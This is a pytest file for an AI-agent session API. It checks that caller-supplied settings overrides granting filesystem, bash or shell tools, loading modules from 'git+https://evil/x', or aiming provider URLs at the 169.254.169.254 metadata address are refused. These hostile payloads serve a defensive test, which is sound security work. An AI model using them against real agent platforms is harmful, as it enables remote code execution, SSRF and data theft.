"""A write key attacks through overrides: files of others, inside addresses, scripts, code."""

from typing import Any

import pytest

from profiles_app.services import profiles
from sessions_app.models import Session
from tests.api.callers import Caller
from tests.conftest import Api

pytestmark = pytest.mark.usefixtures("catalogue")

SCRIPT = [{"tools": [{"name": "read_file", "args": {"path": "theirs.txt"}}]}]
ATTACKS: list[dict[str, Any]] = [
    # reading and planting files of others
    {"tools": [{"module": "tool-filesystem"}]},
    {"tools": [{"module": "tool-filesystem", "config": {"require_approval": True}}]},
    {"tools": [{"module": "filesystem"}]},
    {"tools": [{"module": "tool-todo"}, {"module": "tool-filesystem"}]},
    {"tools": [{"module": "tool-todo", "source": "/tmp/mine"}]},
    {"tools": [{"module": "TOOL-FILESYSTEM"}]},
    # programs
    {"tools": [{"module": "tool-bash"}]},
    {"tools": [{"module": "tool-mcp", "config": {"command": "sh"}}]},
    {"hooks": [{"module": "hook-logging", "config": {"path": "/tmp/x"}}]},
    {"session": {"orchestrator": {"module": "loop-mine", "source": "git+https://evil/x"}}},
    {"session": {"context": {"module": "context-simple", "source": "git+https://evil/x"}}},
    {"session": {"engine": "amplifier"}},
    # addresses inside
    {"tools": [{"module": "tool-web"}]},
    {"tools": [{"module": "tool-web", "config": {"allow_private": ["10.0.0.0/8"]}}]},
    *(
        {"providers": [{"module": module, "config": {"base_url": "http://169.254.169.254/v1"}}]}
        for module in (
            "provider-openai-compatible",
            "provider-vllm",
            "provider-ollama",
            "provider-openai",
            "provider-anthropic",
        )
    ),
    {"providers": [{"module": "provider-ollama"}]},
    {"providers": [{"module": "provider-azure-openai", "config": {"azure_endpoint": "http://a"}}]},
    {"providers": [{"module": "provider-mock", "source": "/tmp/mine"}]},
    # a model that says what the caller wants
    {"providers": [{"module": "provider-mock", "config": {"script": SCRIPT}}]},
    {"providers": [{"module": "provider-mock", "config": {"script": SCRIPT, "priority": 9}}]},
]
HARMLESS: list[dict[str, Any]] = [
    {"temperature": 0.1, "llm": {"a": 1}},
    {"tools": [{"module": "tool-todo"}]},
    {"providers": [{"module": "provider-mock", "config": {"temperature": 0.1}}]},
    {"instruction": "Be brief.", "context": {"a": "b"}, "agents": {"c": "d"}},
    {"mountPoints": [{"moduleType": "tool", "metadata": {"module": "tool-bash"}}]},
]


@pytest.fixture(autouse=True)
def shared(settings: Any) -> None:
    settings.REQUIRE_KEYS = True


@pytest.mark.parametrize("overrides", ATTACKS)
@pytest.mark.parametrize("path", ["/sessions/", "/mount-plans/generate"])
@pytest.mark.parametrize("casing", ["settings_overrides", "settingsOverrides"])
def test_an_attack_is_refused(api: Api, path: str, casing: str, overrides: dict[str, Any]) -> None:
    name = "profile_id" if "mount" in path else "profile_name"
    eve = Caller(api, "eve")
    body = {name: "foundation/test", "amplified_dir": eve.directory, casing: overrides}
    answer = eve("post", path, body)
    assert (answer.status_code, answer.json()["code"]) == (400, "invalid"), answer.content
    assert answer.json()["detail"].startswith("settings_overrides.")
    assert not Session.objects.exists()


@pytest.mark.parametrize("overrides", HARMLESS)
def test_what_gives_no_power_is_taken(api: Api, overrides: dict[str, Any]) -> None:
    eve = Caller(api, "eve")
    session_id = eve.session(settings_overrides=overrides)
    plan = eve("get", f"/sessions/{session_id}/mount-plan").json()
    assert "tool-bash" not in [mount["metadata"].get("module") for mount in plan["mountPoints"]]


def test_an_admin_changes_the_profile_instead(api: Api) -> None:
    """What a key may do decides about the catalogue; overrides are the same for every key."""
    answer = Caller(api, "root", "admin")(
        "post", "/sessions/", {"profile_name": "foundation/test", "settings_overrides": ATTACKS[0]}
    )
    assert answer.status_code == 400


def test_another_profile_does_not_turn_a_change_into_an_addition(api: Api) -> None:
    sections = {
        "providers": [{"module": "provider-mock"}],
        "tools": [{"module": "tool-filesystem"}],
    }
    profiles.create("files", sections=sections)
    eve = Caller(api, "eve")
    asks = {"module": "tool-filesystem", "config": {"require_approval": True}}
    session_id = eve.session(profile_name="local/files", settings_overrides={"tools": [asks]})
    assert eve("post", f"/sessions/{session_id}/start").status_code == 204
    path = f"/sessions/{session_id}/change-profile"
    answer = eve("post", path, {"profile_name": "foundation/test"})
    assert (answer.status_code, answer.json()["code"]) == (400, "invalid")
    assert "cannot add tool-filesystem" in answer.json()["detail"]
    kept = Session.objects.get(pk=session_id)
    assert kept.profile_name == "local/files"


@pytest.mark.parametrize("way", ["clone", "fork", "change-profile"])
def test_no_copy_takes_overrides(api: Api, way: str) -> None:
    eve = Caller(api, "eve")
    session_id = eve.session()
    eve("post", f"/sessions/{session_id}/start")
    body = {"settings_overrides": ATTACKS[0], "profile_name": "foundation/test"}
    answer = eve("post", f"/sessions/{session_id}/{way}", body)
    assert answer.status_code == 400
    assert Session.objects.count() == 1
